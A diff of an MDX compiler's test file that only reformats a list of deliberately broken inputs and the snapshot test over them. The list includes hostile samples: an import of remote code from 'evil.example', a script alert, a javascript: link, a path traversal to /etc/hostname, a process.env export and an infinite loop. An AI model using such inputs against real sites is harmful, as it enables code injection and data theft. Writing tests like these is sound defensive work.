@@ -116,34 +116,39 @@ describe("Markdown", () => {
 });
 
 const broken = [
-    "<Foo />",
-    "Hello\n\n<Highlight>\n\nnever closed",
-    "<b>first\n\nsecond</b>",
-    "Use the {id path parameter.",
-    "Loads <5 tons",
-    "See <https://example.com>",
-    "<!-- never closed",
-    "{process.exit(1)}",
-    "{(() => { while (true) {} })()}",
-    "{{ a: 1 }} {Symbol('x')}",
-    "export const x = process.env;",
-    'import X from "https://evil.example/x.js";\n\n<X />',
-    'import X from "./none.mdx";',
-    'import { useState } from "react";',
-    "<Tabs defaultValue={f()}><TabItem value='a'>x</TabItem></Tabs>",
-    "<div onClick={() => 1} class='x'>a</div>",
-    "<script>alert(1)</script>",
-    "[a](javascript:alert(1)) [b](//evil.example) [c](http://[bad) [d](./none.mdx) [e](./)",
-    "![x](../../../../../../../../etc/hostname) ![y](./none.png)",
-    "a[^1] [b][c] [d](./my file.mdx)",
-    "## \n\n## A {#a b}\n\n## B {#a-b}\n\n# Two",
-    ":::foo\nx\n:::\n\n:::\n",
-    "```js\nnever closed",
-    "---js\n({})\n---",
-  ];
+  "<Foo />",
+  "Hello\n\n<Highlight>\n\nnever closed",
+  "<b>first\n\nsecond</b>",
+  "Use the {id path parameter.",
+  "Loads <5 tons",
+  "See <https://example.com>",
+  "<!-- never closed",
+  "{process.exit(1)}",
+  "{(() => { while (true) {} })()}",
+  "{{ a: 1 }} {Symbol('x')}",
+  "export const x = process.env;",
+  'import X from "https://evil.example/x.js";\n\n<X />',
+  'import X from "./none.mdx";',
+  'import { useState } from "react";',
+  "<Tabs defaultValue={f()}><TabItem value='a'>x</TabItem></Tabs>",
+  "<div onClick={() => 1} class='x'>a</div>",
+  "<script>alert(1)</script>",
+  "[a](javascript:alert(1)) [b](//evil.example) [c](http://[bad) [d](./none.mdx) [e](./)",
+  "![x](../../../../../../../../etc/hostname) ![y](./none.png)",
+  "a[^1] [b][c] [d](./my file.mdx)",
+  "## \n\n## A {#a b}\n\n## B {#a-b}\n\n# Two",
+  ":::foo\nx\n:::\n\n:::\n",
+  "```js\nnever closed",
+  "---js\n({})\n---",
+];
 
 it("tells of every problem where it is and what to do", () => {
-  const told = broken.map((text) => `${JSON.stringify(text)}\n${compileText(text).problems.map((line) => `  ${line}`).join("\n")}`);
+  const told = broken.map(
+    (text) =>
+      `${JSON.stringify(text)}\n${compileText(text)
+        .problems.map((line) => `  ${line}`)
+        .join("\n")}`,
+  );
   expect(told.join("\n")).toMatchInlineSnapshot(`
     ""<Foo />"
       note.mdx:1:1  error  unknown-component  component <Foo> is not defined (defined are Admonition, BrowserOnly, CodeBlock, Details, DocCardList, Head, Heading, Link, TOCInline, TabItem, Tabs, ThemedImage, Translate; write \\< for the character)
